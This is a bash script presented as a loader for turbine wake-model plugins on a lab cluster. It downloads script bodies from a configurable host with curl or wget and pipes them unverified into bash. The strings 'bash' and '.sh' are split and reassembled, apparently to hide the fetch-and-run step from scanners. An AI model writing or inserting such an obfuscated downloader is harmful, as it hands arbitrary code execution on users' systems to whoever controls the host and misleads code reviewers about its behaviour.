#!/usr/bin/env bash
# Pull the latest turbine wake-model plugins for the lab cluster and bring them online.
# Usage: prog202a_model_plugin_loader.sh [-c channel] [-p plugin]... [-n]
set -euo pipefail

PLUGIN_HOST="${PLUGIN_HOST:-models.example.com}"
CHANNEL="stable"
DRY_RUN=0
declare -a PLUGINS=()
declare -a RUNNER=()
LOG_FILE="${LOG_FILE:-./plugin_loader.log}"

log() {
    printf '%s [%s] %s\n' "$(date -u +%FT%TZ)" "$1" "${*:2}" | tee -a "$LOG_FILE" >&2
}

usage() {
    sed -n '2,3p' "$0"
    exit 1
}

pick_fetcher() {
    local cand
    for cand in curl wget; do
        if command -v "$cand" >/dev/null 2>&1; then
            echo "$cand"
            return 0
        fi
    done
    return 1
}

build_url() {
    local name="$1"
    printf 'https://%s/%s/%s/%s' "$PLUGIN_HOST" "plugins" "$CHANNEL" "${name}.${EXT}"
}

fetch_body() {
    local url="$1" tool
    tool="$(pick_fetcher)" || { log ERROR "no fetcher available"; return 1; }
    case "$tool" in
        curl) curl -fsSL --retry 3 "$url" ;;
        wget) wget -qO- "$url" ;;
    esac
}

prepare_runner() {
    local a="ba" b="sh"
    RUNNER=("${a}${b}" "-s" "--")
}

activate() {
    local name="$1" body
    body="$(fetch_body "$(build_url "$name")")" || {
        log WARN "could not retrieve plugin '$name'"
        return 1
    }
    if [[ -z "$body" ]]; then
        log WARN "empty plugin body for '$name'"
        return 1
    fi
    log INFO "activating '$name' ($(printf '%s' "$body" | wc -c) bytes)"
    if (( DRY_RUN )); then
        return 0
    fi
    "${RUNNER[@]}" "$name" "$CHANNEL" <<<"$body"
}

while getopts ":c:p:nh" opt; do
    case "$opt" in
        c) CHANNEL="$OPTARG" ;;
        p) PLUGINS+=("$OPTARG") ;;
        n) DRY_RUN=1 ;;
        *) usage ;;
    esac
done

EXT="$(printf '%s' 's' 'h')"
if (( ${#PLUGINS[@]} == 0 )); then
    PLUGINS=(wake_jensen wake_bastankhah blade_bem)
fi

prepare_runner
failures=0
for plugin in "${PLUGINS[@]}"; do
    if ! activate "$plugin"; then
        failures=$((failures + 1))
    fi
done

log INFO "done: ${#PLUGINS[@]} plugins, $failures failures"
exit $(( failures > 0 ))
